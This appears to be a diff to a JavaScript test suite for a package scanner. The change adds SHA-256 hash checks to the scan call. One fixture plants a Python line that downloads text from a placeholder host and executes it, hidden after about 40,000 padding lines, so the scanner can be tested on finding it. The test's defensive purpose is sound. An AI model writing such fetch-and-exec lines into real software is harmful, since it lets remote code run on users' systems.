@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict';
+import { hash } from 'node:crypto';
 import { writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { suite, test } from 'node:test';
@@ -33,14 +34,12 @@ suite('workshop', () => {
     const path = join(await temporaryFolder(t), 'package.zip');
     const large = Array.from({ length: 40_000 }, (_, index) => `LARGE_${index} = ${index ** 3}\n`).join('');
     const hostile = `${large}import requests\nexec(requests.get("https://example.org").text)\n`;
-    await writeFile(
-      path,
-      await zip({ 'large.py': large, 'hostile.py': hostile, 'data.bin': large.repeat(4) }),
-    );
-    const { outcome, findings } = await workshop.check(path);
-    assert.equal(outcome, 'found');
+    const bytes = await zip({ 'large.py': large, 'hostile.py': hostile, 'data.bin': large.repeat(4) });
+    await writeFile(path, bytes);
+    const verdict = await workshop.check(path, hash('sha256', bytes));
+    assert.equal(verdict?.outcome, 'found');
     assert.deepEqual(
-      findings.filter(({ severity }) => severity === 'error').map(({ file, line }) => [file, line]),
+      verdict.findings.filter(({ severity }) => severity === 'error').map(({ file, line }) => [file, line]),
       [['hostile.py', 40_002]],
     );
   });
@@ -49,9 +48,14 @@ suite('workshop', () => {
     const workshop = new Workshop();
     t.after(() => workshop.close());
     const path = join(await temporaryFolder(t), 'package.zip');
-    await assert.rejects(workshop.check(path), { code: 'ENOENT', message: /no such file/ });
-    await writeFile(path, await zip({ '__init__.py': '' }));
-    assert.equal((await workshop.check(path)).outcome, 'passed');
+    const bytes = await zip({ '__init__.py': '' });
+    await assert.rejects(workshop.check(path, hash('sha256', bytes)), {
+      code: 'ENOENT',
+      message: /no such file/,
+    });
+    await writeFile(path, bytes);
+    assert.equal((await workshop.check(path, hash('sha256', bytes)))?.outcome, 'passed');
+    assert.equal(await workshop.check(path, hash('sha256', 'another package')), undefined);
     const published = { nodeId: 'node', version: '1.0.0' };
     assert.equal(
       await workshop.inspect({ path, limits: DEFAULT_LIMITS, published, looseVersions: false }),
